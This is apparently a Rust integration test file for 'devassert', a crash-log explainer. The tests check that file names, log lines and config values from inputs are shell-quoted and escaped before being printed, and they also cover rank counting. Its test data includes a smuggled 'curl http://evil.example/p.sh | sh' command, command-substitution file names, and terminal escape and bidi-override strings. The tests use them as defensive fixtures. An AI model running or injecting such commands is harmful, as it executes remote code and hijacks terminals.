//! Text quoted from an input is inert (issue 27, item 1): a command printed
//! as a next step is quoted for the shell, control characters, C1 codes and
//! bidi overrides are shown escaped in every format, and one quoted line
//! prints a bounded number of bytes.

mod common;

use serde_json::Value;
use std::path::Path;

/// The control characters of the hostile inputs: ESC + OSC title, BEL,
/// backspace, NUL, 8-bit CSI, a right-to-left override.
const NASTY: &str = "\x1b]0;pwned\x07\x1b[2J\x08\0\u{9b}31m\u{202e}gpj.exe";

/// No byte of `text` drives a terminal or reorders what it shows, and no
/// line is longer than `max` bytes.
fn assert_inert(what: &str, text: &str, max: usize) {
    for (n, line) in text.lines().enumerate() {
        assert!(
            line.len() <= max,
            "{what}: line {n} has {} bytes",
            line.len()
        );
        if let Some(c) = line.chars().find(|&c| {
            (c.is_control() && c != '\t')
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        }) {
            panic!("{what}: line {n} holds {c:?}: {line:?}");
        }
    }
}

fn run(cwd: &Path, args: &[&str]) -> (Option<i32>, String, String) {
    let out = common::bin()
        .current_dir(cwd)
        .args(args)
        .output()
        .expect("run devassert");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A crash with no kernel line whose only frame is `file`: explain suggests
/// `devassert run -- python FILE …`, and quotes `message` from the log.
fn crash_log(file: &str, message: &str) -> String {
    format!(
        "Traceback (most recent call last):\n  File \"{file}\", line 3, in <module>\n    out = model(ids)  {message}\n\
         RuntimeError: CUDA error: device-side assert triggered {message}\n"
    )
}

#[test]
fn the_suggested_command_is_quoted_for_the_shell() {
    let d = tempfile::tempdir().expect("tempdir");
    for (file, quoted) in [
        (
            "/tmp/x.py; curl http://evil.example/p.sh | sh; echo .py",
            "'/tmp/x.py; curl http://evil.example/p.sh | sh; echo .py'",
        ),
        ("/tmp/$(id>/tmp/p).py", "'/tmp/$(id>/tmp/p).py'"),
        ("/tmp/`id`.py", "'/tmp/`id`.py'"),
        ("/tmp/it's.py", r"'/tmp/it'\''s.py'"),
    ] {
        let log = d.path().join("crash.log");
        std::fs::write(&log, crash_log(file, "")).expect("write log");
        let (code, out, err) = run(d.path(), &["explain", "--color", "never", "crash.log"]);
        assert!(matches!(code, Some(0 | 1)), "{code:?}: {err}");
        let want = format!("devassert run -- python {quoted} …");
        assert!(out.contains(&want), "no {want:?} in:\n{out}");
        // The shell reads the quoted word back as the file name, and runs nothing.
        let sh = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("printf %s {quoted}"))
            .output()
            .expect("run sh");
        assert_eq!(String::from_utf8_lossy(&sh.stdout), file);
    }
}

#[test]
fn a_file_name_with_control_characters_is_quoted_and_escaped() {
    let d = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        d.path().join("crash.log"),
        crash_log("/tmp/a\u{1b}[31m'b\u{202e}.py", ""),
    )
    .expect("write log");
    let (_, out, _) = run(d.path(), &["explain", "--color", "never", "crash.log"]);
    assert!(
        // The log reader drops ANSI sequences; the rest is quoted and escaped.
        out.contains(r"devassert run -- python $'/tmp/a\'b\u202e.py' …"),
        "{out}"
    );
    assert_inert("human", &out, 4096);
}

#[test]
fn quoted_log_lines_are_escaped_in_every_format() {
    let d = tempfile::tempdir().expect("tempdir");
    let message = format!("{NASTY} {}", "A".repeat(3 * 1024 * 1024));
    std::fs::write(
        d.path().join("crash.log"),
        crash_log(&format!("train{NASTY}.py"), &message),
    )
    .expect("write log");
    for format in ["human", "github"] {
        let (code, out, err) = run(
            d.path(),
            &[
                "explain",
                "--color",
                "never",
                "--format",
                format,
                "crash.log",
            ],
        );
        assert!(matches!(code, Some(0 | 1)), "{code:?}: {err}");
        assert_inert(format, &out, 8192);
        assert_inert(format, &err, 8192);
        if format == "human" {
            // The log reader drops ANSI sequences; what is left is escaped.
            assert!(out.contains(r"\x08\x00\u{9b}31m\u{202e}gpj.exe"), "{out}");
            assert!(out.contains("more bytes]"), "{out}");
        }
    }
    let (code, out, _) = run(d.path(), &["explain", "--format", "json", "crash.log"]);
    assert!(matches!(code, Some(0 | 1)));
    // JSON keeps the exact text, escaped by its encoding.
    assert_inert("json", &out, usize::MAX);
    let v: Value = serde_json::from_str(&out).expect("JSON");
    assert_eq!(v["schema"], "devassert/1");
    let file = v["findings"][0]["noticed_at"]["file"]
        .as_str()
        .expect("file");
    assert_eq!(file, "train\u{8}\0\u{9b}31m\u{202e}gpj.exe.py");
}

#[test]
fn source_snippets_are_escaped() {
    let d = tempfile::tempdir().expect("tempdir");
    // A NUL would make it binary, and not read at all.
    let nasty = NASTY.replace('\0', "");
    let line = format!("x = '{nasty}'  # {}\n", "B".repeat(100_000));
    std::fs::write(
        d.path().join("train.py"),
        format!("import torch\n{line}{line}print(x)\n"),
    )
    .expect("write source");
    std::fs::write(d.path().join("crash.log"), crash_log("train.py", "")).expect("write log");
    let (code, out, err) = run(d.path(), &["explain", "--color", "never", "crash.log"]);
    assert!(matches!(code, Some(0 | 1)), "{code:?}: {err}");
    assert!(out.contains(r"x = '\x1b]0;pwned"), "{out}");
    assert_inert("snippet", &out, 4096);
}

/// A `.npy` whose header holds `header` (not a valid dict: no 'descr').
fn npy_with_header(header: &str) -> Vec<u8> {
    let mut h = header.as_bytes().to_vec();
    h.push(b'\n');
    let mut b = b"\x93NUMPY\x02\x00".to_vec();
    b.extend_from_slice(&(h.len() as u32).to_le_bytes());
    b.extend_from_slice(&h);
    b
}

#[test]
fn scan_errors_quote_a_bounded_escaped_header() {
    let d = tempfile::tempdir().expect("tempdir");
    let big = format!("{{{NASTY}{}}}", "C".repeat(3 * 1024 * 1024));
    std::fs::write(d.path().join("bad.npy"), npy_with_header(&big)).expect("write npy");
    std::fs::write(
        d.path().join("bad.csv"),
        format!("{NASTY}{},x\n1,2\n", "D".repeat(3 * 1024 * 1024)),
    )
    .expect("write csv");
    for format in ["human", "json", "github"] {
        let (code, out, err) = run(
            d.path(),
            &[
                "--format", format, "scan", "bad.npy", "bad.csv", "--vocab", "10",
            ],
        );
        assert_eq!(code, Some(2), "{err}");
        assert_inert(format, &out, 4096);
        assert_inert("stderr", &err, 4096);
        assert!(
            err.contains("bad.npy") && err.contains("no 'descr'"),
            "{err}"
        );
        assert!(err.contains(r"\x1b]0;pwned\x07"), "{err}");
        assert!(err.contains("bad.csv"), "{err}");
    }
}

#[test]
fn check_shows_model_type_escaped() {
    let d = tempfile::tempdir().expect("tempdir");
    let config = serde_json::json!({
        "model_type": format!("bert{NASTY}{}", "E".repeat(100_000)),
        "architectures": [format!("Bert{NASTY}")],
        "vocab_size": 8,
    });
    std::fs::write(d.path().join("config.json"), config.to_string()).expect("write config");
    let (code, out, err) = run(d.path(), &["check", "--color", "never", "."]);
    assert!(code == Some(0) || code == Some(1), "{code:?} {err}");
    assert!(out.contains(r"bert\x1b]0;pwned\x07"), "{out}");
    assert_inert("check", &out, 4096);
}

#[cfg(unix)]
#[test]
fn a_closed_stdout_is_a_quiet_exit() {
    use std::os::fd::{FromRawFd, OwnedFd};
    use std::process::{Command, Stdio};
    let log = common::fixtures().join("logs/own/multirank-fallout-first.log");
    // `| head -c1` at its most abrupt: the reader is gone before the first write.
    let mut fds = [0; 2];
    // SAFETY: `fds` has room for the two descriptors pipe() writes.
    assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
    // SAFETY: pipe() just returned these descriptors; each is owned once.
    let (read, write) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
    drop(read);
    for format in ["human", "json"] {
        let out = Command::new(assert_cmd::cargo::cargo_bin("devassert"))
            .args(["explain", "--color", "never", "--format", format])
            .arg(&log)
            .stdout(Stdio::from(write.try_clone().expect("dup")))
            .output()
            .expect("run devassert");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.is_empty(), "{err}");
        assert!(matches!(out.status.code(), Some(0 | 1)), "{err}");
    }
    // `2>&1 | head -c1`: stderr closed too, while a warning is written to it.
    let d = tempfile::tempdir().expect("tempdir");
    std::fs::copy(&log, d.path().join("rank0.log")).expect("copy");
    std::os::unix::fs::symlink(d.path().join("gone"), d.path().join("dangling.log")).expect("link");
    let status = Command::new(assert_cmd::cargo::cargo_bin("devassert"))
        .args(["explain", "--color", "never"])
        .arg(d.path())
        .stdout(Stdio::from(write.try_clone().expect("dup")))
        .stderr(Stdio::from(write.try_clone().expect("dup")))
        .status()
        .expect("run devassert");
    assert!(matches!(status.code(), Some(0 | 1)), "{status:?}");
}

/// Thousands of scattered ranks: explain's memory and its header stay small,
/// the ranks are listed as ranges and an exact count.
#[test]
fn many_ranks_are_counted_not_listed() {
    use std::fmt::Write as _;
    let d = tempfile::tempdir().expect("tempdir");
    let mut log = String::new();
    // Even ranks only: no two are consecutive, so none merge into a range.
    for r in 0..20_000 {
        let _ = writeln!(
            log,
            "[rank{}]:../aten/src/ATen/native/cuda/Indexing.cu:1289: indexSelectLargeIndex: block: [0,0,0], thread: [0,0,0] Assertion `srcIndex < srcSelectDimSize` failed.",
            r * 2
        );
    }
    for r in 0..50_000 {
        let _ = writeln!(
            log,
            "[rank{r}]: RuntimeError: CUDA error: device-side assert triggered"
        );
    }
    std::fs::write(d.path().join("crash.log"), log).expect("write log");
    let (code, out, err) = run(d.path(), &["explain", "--color", "never", "crash.log"]);
    assert!(matches!(code, Some(0 | 1)), "{err}");
    let header = out.lines().next().expect("header");
    assert!(header.len() < 200, "{header}");
    assert!(out.contains("20000 ranks from 0 to 39998"), "{out}");
    assert_inert("human", &out, 4096);
    let (_, json, _) = run(d.path(), &["explain", "--format", "json", "crash.log"]);
    let v: Value = serde_json::from_str(&json).expect("JSON");
    let e = &v["findings"][0]["evidence"];
    assert_eq!(e["ranks"].as_array().map(Vec::len), Some(256));
    // Past 1024 scattered ranges the ranks are counted in a bitmap: exactly.
    assert_eq!(e["ranks_total"], 20_000);
    assert_eq!(e["ranks_max"], 39_998);
    assert!(e.get("ranks_total_at_least").is_none(), "{e}");
    assert!(json.len() < 100_000, "{} bytes of JSON", json.len());
}

/// The watchdog lines of 66,667 ranks (every third of 200,000): the header
/// counts them all; ranks past the memory bound are lines said not to be
/// counted.
#[test]
fn the_header_counts_scattered_ranks_and_says_what_it_did_not_count() {
    use std::fmt::Write as _;
    let d = tempfile::tempdir().expect("tempdir");
    let watchdog = |log: &mut String, r: i64| {
        let _ = writeln!(
            log,
            "[rank{r}]:[E501 12:00:00.000000000 ProcessGroupNCCL.cpp:616] [Rank {r}] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=5, OpType=ALLREDUCE, NumelIn=1, NumelOut=1, Timeout(ms)=600000) ran for 600004 milliseconds before timing out."
        );
    };
    let crash = "[rank0]:/pytorch/aten/src/ATen/native/cuda/Indexing.cu:1422: indexSelectLargeIndex: block: [3,0,0], thread: [7,0,0] Assertion `srcIndex < srcSelectDimSize` failed.\n[rank0]: RuntimeError: CUDA error: device-side assert triggered\n";
    let mut log = String::new();
    for r in (0..200_000).step_by(3) {
        watchdog(&mut log, r);
    }
    log.push_str(crash);
    std::fs::write(d.path().join("nccl.log"), &log).expect("write log");
    let (code, out, err) = run(d.path(), &["explain", "--color", "never", "nccl.log"]);
    assert_eq!(code, Some(1), "{err}");
    insta::assert_snapshot!(out);
    let (_, json, _) = run(d.path(), &["explain", "--format", "json", "nccl.log"]);
    let v: Value = serde_json::from_str(&json).expect("JSON");
    let f = &v["fallout"][0];
    assert_eq!(
        (&f["ranks_total"], &f["ranks_max"]),
        (&66_667.into(), &199_998.into())
    );
    assert!(f.get("ranks_uncounted").is_none(), "{f}");

    // 18 assertions of 1040 scattered ranks each, spread over 16 chunks of
    // the bitmap (ranks below 1M, as a launcher prefix holds them): the
    // first 16 sets take the 2 MiB, the last two count 16 lines each.
    let mut spread = String::new();
    for g in 0..18 {
        // 1024 ranges (0, 2, …, 2046), then one rank in each chunk.
        let chunks = [4001].into_iter().chain((1..16).map(|c| c * 65_536 + 1));
        let ranks = (0..1024).map(|r| 2 * r).chain(chunks);
        for r in ranks {
            let _ = writeln!(
                spread,
                "[rank{r}]:/pytorch/aten/src/ATen/native/cuda/Indexing.cu:{}: indexSelectLargeIndex: block: [0,0,0], thread: [0,0,0] Assertion `srcIndex < srcSelectDimSize` failed.",
                1000 + g
            );
        }
    }
    std::fs::write(d.path().join("spread.log"), &spread).expect("write log");
    let (_, out, _) = run(d.path(), &["explain", "--color", "never", "spread.log"]);
    let header = out.lines().next().expect("header");
    assert!(
        header.ends_with("1040 ranks from 0 to 983041, and 16 lines naming ranks not counted"),
        "{header}"
    );
    let (_, json, _) = run(d.path(), &["explain", "--format", "json", "spread.log"]);
    let v: Value = serde_json::from_str(&json).expect("JSON");
    let uncounted: Vec<&Value> = v["fallout"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f.get("ranks_uncounted"))
        .collect();
    assert_eq!(uncounted, [&Value::from(16); 2]);
    let counted = &v["findings"][0]["evidence"];
    assert_eq!(
        (&counted["ranks_total"], &counted["ranks_max"]),
        (&1040.into(), &983_041.into())
    );
}

/// Ranks of a million and more in launcher prefixes are ranks: counted,
/// listed, the prefix taken off (a job of that many ranks is rare; a rank
/// id that large in a prefix is not).
#[test]
fn ranks_of_a_million_and_more_are_ranks() {
    let d = tempfile::tempdir().expect("tempdir");
    let mut log = String::new();
    for r in [1_000_000i64, 4_000_000_000, 123_456_789_012] {
        log.push_str(&format!(
            "[rank{r}]:/pytorch/aten/src/ATen/native/cuda/Indexing.cu:1422: indexSelectLargeIndex: block: [3,0,0], thread: [7,0,0] Assertion `srcIndex < srcSelectDimSize` failed.\n"
        ));
    }
    log.push_str("[rank1000000]: RuntimeError: CUDA error: device-side assert triggered\n");
    std::fs::write(d.path().join("big.log"), &log).expect("write log");
    let (code, json, err) = run(d.path(), &["explain", "--format", "json", "big.log"]);
    assert_eq!(code, Some(1), "{err}");
    let v: Value = serde_json::from_str(&json).expect("JSON");
    let e = &v["findings"][0]["evidence"];
    assert_eq!(
        e["ranks"],
        serde_json::json!([1_000_000i64, 4_000_000_000i64, 123_456_789_012i64]),
        "{e}"
    );
}
